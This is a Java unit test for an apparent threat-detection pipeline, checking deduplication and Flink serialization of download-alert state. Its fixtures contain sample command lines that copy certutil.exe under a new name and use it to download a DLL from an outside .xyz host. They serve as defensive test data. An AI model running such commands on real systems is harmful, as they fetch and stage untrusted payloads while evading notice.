package dev.bazahunt.job.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.correlation.DownloadRow;
import dev.bazahunt.correlation.ExcelChildEvent;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.api.common.typeutils.TypeSerializer;
import org.apache.flink.api.java.typeutils.PojoTypeInfo;
import org.apache.flink.core.memory.DataInputDeserializer;
import org.apache.flink.core.memory.DataOutputSerializer;
import org.junit.jupiter.api.Test;

class DownloadAlertStateTest {

    @Test
    void keepsEachTelemetryRowOnce() {
        DownloadAlertState state = new DownloadAlertState();

        assertThat(state.addRow(row(18342L))).isTrue();
        assertThat(state.addRow(row(18343L))).isTrue();
        assertThat(state.addRow(row(18342L))).isFalse();
        assertThat(state.addExcelChild(excelChild(18300L))).isTrue();
        assertThat(state.addExcelChild(excelChild(18400L))).isTrue();
        assertThat(state.addExcelChild(excelChild(18300L))).isFalse();

        assertThat(state.rows).hasSize(2);
        assertThat(state.excelChildren).hasSize(2);
    }

    @Test
    void isAFlinkPojoThatRoundTripsWithoutKryo() throws Exception {
        TypeInformation<DownloadAlertState> type = TypeInformation.of(DownloadAlertState.class);
        assertThat(type).isInstanceOf(PojoTypeInfo.class);
        SerializerConfigImpl config = new SerializerConfigImpl();
        config.setGenericTypes(false); // a Kryo fallback anywhere inside throws here
        TypeSerializer<DownloadAlertState> serializer = type.createSerializer(config);

        DownloadAlertState state = new DownloadAlertState();
        state.addRow(row(18342L));
        state.addExcelChild(excelChild(18300L));
        state.baseRevision = 2;
        state.correlatedRevision = 1;
        state.cleanupAtMillis = 1234L;
        DataOutputSerializer out = new DataOutputSerializer(1024);
        serializer.serialize(state, out);
        DownloadAlertState copy = serializer.deserialize(new DataInputDeserializer(out.getCopyOfBuffer()));

        assertThat(copy.baseRevision).isEqualTo(2);
        assertThat(copy.correlatedRevision).isEqualTo(1);
        assertThat(copy.cleanupAtMillis).isEqualTo(1234L);
        assertThat(copy.rows).containsExactly(row(18342L));
        assertThat(copy.excelChildren).containsExactly(excelChild(18300L));
    }

    private static DownloadRow row(long reportId) {
        DownloadRow row = new DownloadRow();
        row.ruleId = "f5ff5b00-a90e-40b8-b241-9427a8ec5189";
        row.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        row.timestamp = 1_626_789_778_103_456_700L + reportId;
        row.reportId = reportId;
        row.fileName = "tmp1834.dll";
        row.folderPath = "C:\\Users\\Public\\x8k2\\tmp1834.dll";
        row.initiatingProcessId = 7212L;
        row.initiatingProcessCreationTime = 1_626_789_777_991_234_500L;
        row.initiatingProcessCommandLine = "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/a.php tmp1834.dll";
        return row;
    }

    private static ExcelChildEvent excelChild(long reportId) {
        ExcelChildEvent child = new ExcelChildEvent();
        child.timestamp = 1_626_789_777_520_000_000L + reportId;
        child.reportId = reportId;
        child.processId = 6640L;
        child.processCreationTime = 1_626_789_777_512_000_000L;
        child.fileName = "cmd.exe";
        child.processCommandLine = "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy certutil.exe x8k2.exe";
        child.initiatingProcessId = 5120L;
        return child;
    }
}
